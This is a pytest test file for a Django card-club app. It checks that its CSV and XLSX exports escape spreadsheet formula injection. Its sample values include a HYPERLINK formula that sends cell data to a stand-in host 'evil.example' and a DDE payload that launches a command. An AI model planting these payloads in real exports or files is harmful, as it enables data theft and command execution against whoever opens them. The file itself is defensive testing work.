"""A name is never a formula in a spreadsheet: every CSV and XLSX export writes text that a
spreadsheet would run (= + - @, a tab, a carriage return first) after a single quote.
"""

import csv
import datetime
import io

import openpyxl
import pytest
from django.utils import timezone

from sueca_club.models import Partnership
from tests.conftest import make_match, make_partnership
from tests.tournaments.helpers import record
from tournaments import exports

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Ver resultados")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3", "\t=1+1", "\r=1+1"]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def this_year():
    today = timezone.localdate()
    return datetime.date(today.year, 1, 1), today


@pytest.fixture
def named_like_formulas(club, finished_knockout):
    """The knockout's partnerships, and two friendlies' (one finished), all named as formulas."""
    a, b = make_partnership(club, "=1+1", "Zé"), make_partnership(club, "@Ana", "-Rui")
    friendly = make_match(club, a, b, fmt={"type": "fixed_deals", "deals": 1})
    record(friendly, {"points": [70, 50]})
    record(make_match(club, b, a), {"points": [60, 60]})
    partnerships = Partnership.objects.filter(club=club).order_by("pk")
    for n, partnership in enumerate(partnerships):
        partnership.name = FORMULAS[n % len(FORMULAS)]
        partnership.save()
    return finished_knockout


def all_files(club, tournament, fmt):
    start, end = this_year()
    for build in (exports.tournament_standings, exports.tournament_results,
                  exports.tournament_deals):
        yield build.__name__, build(tournament, fmt)
    for build in (exports.season_results, exports.season_deals, exports.season_standings):
        yield build.__name__, build(club, start, end, fmt)


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_no_csv_cell_starts_like_a_formula(club, named_like_formulas):
    seen = set()
    for name, content in all_files(club, named_like_formulas, "csv"):
        for row in csv_cells(content):
            for cell in row:
                assert not cell.startswith(DANGEROUS_STARTS) or cell.lstrip("+-").isdigit(), (
                    name, cell)
                seen.add(cell)
    assert {"'" + formula for formula in FORMULAS} <= seen  # the names are all there, quoted


def test_no_xlsx_cell_is_a_formula_and_numbers_stay_numbers(club, named_like_formulas):
    for name, content in all_files(club, named_like_formulas, "xlsx"):
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert all(cell.data_type != "f" for cell in cells), name
        texts = [cell.value for cell in cells if cell.data_type == "s"]
        assert not [text for text in texts if text.startswith(DANGEROUS_STARTS)], name
        assert any(cell.data_type == "n" for cell in cells), name  # games, points, ranks


def test_the_season_standings_keep_a_negative_difference_a_number(club, named_like_formulas):
    start, end = this_year()
    rows = list(openpyxl.load_workbook(io.BytesIO(
        exports.season_standings(club, start, end, "xlsx"))).active.iter_rows(values_only=True))
    differences = [row[-1] for row in rows[1:]]
    assert all(isinstance(d, int) for d in differences) and min(differences) < 0


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-3", "-3"), ("-3,5", "-3,5"), ("-x", "'-x"),
    ("@A1", "'@A1"), ("\tA", "'\tA"), ("\rA", "'\rA"), ("Ana & Rui", "Ana & Rui"), (-3, -3),
    (1.5, 1.5), ("", ""), (None, None),
])
def test_one_function_decides_every_cell(value, written):
    assert exports.spreadsheet_cell(value) == written
